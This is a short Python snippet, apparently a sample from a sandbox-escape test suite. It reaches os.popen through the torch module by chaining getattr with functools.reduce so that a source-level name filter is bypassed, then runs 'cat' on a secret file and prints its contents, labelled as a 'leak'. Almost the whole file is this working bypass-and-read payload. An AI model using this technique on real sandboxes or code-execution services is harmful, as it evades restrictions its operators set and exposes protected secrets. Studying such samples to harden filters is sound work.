"""
goal: have functools.partial apply getattr to names that are refused in source
effect: leak
"""

import functools

import torch

path = ["os", "popen"]
popen = functools.reduce(getattr, path, torch)
print(popen("cat " + SECRET_FILE).read())
